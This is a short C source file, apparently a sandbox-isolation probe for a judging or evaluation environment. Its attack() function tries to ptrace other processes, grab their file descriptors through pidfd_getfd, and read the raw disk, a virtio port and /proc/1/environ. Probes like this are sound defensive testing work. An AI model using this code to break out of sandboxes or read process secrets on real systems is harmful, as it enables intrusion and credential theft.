// SPDX-License-Identifier: GPL-2.0-only OR MIT
#include <signal.h>
#include <sys/ptrace.h>

#ifndef SYS_pidfd_open
#define SYS_pidfd_open 434
#endif
#ifndef SYS_pidfd_getfd
#define SYS_pidfd_getfd 438
#endif

/* Everything in the machine but itself belongs to the judge. */
static void attack(void)
{
	for (pid_t pid = 1; pid < 400; pid++) {
		int pidfd;

		if (pid == getpid() || kill(pid, 0))
			continue;
		if (!ptrace(PTRACE_SEIZE, pid, NULL, NULL))
			success("traces a process of the machine");
		pidfd = syscall(SYS_pidfd_open, pid, 0);
		for (int fd = 0; fd < 32 && pidfd >= 0; fd++)
			if (syscall(SYS_pidfd_getfd, pidfd, fd, 0) >= 0)
				success("took a descriptor of the machine's first processes");
		if (pidfd >= 0)
			close(pidfd);
	}
	loot("/dev/vda");
	loot("/dev/vport0p1");
	loot("/proc/1/environ");
}
